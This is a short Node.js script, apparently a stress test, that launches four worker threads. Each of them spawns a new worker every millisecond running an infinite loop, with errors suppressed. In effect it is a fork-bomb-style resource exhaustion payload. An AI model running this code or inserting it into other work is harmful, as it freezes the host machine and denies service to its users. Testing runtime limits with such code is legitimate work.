const { Worker } = require('worker_threads');

// Workers that make workers.
const code = `
const { Worker } = require('worker_threads');
setInterval(() => new Worker(${JSON.stringify('require("worker_threads"); for (;;);')}, { eval: true }).on('error', () => {}), 1);
`;
for (let i = 0; i < 4; i += 1) new Worker(code, { eval: true }).on('error', () => {});
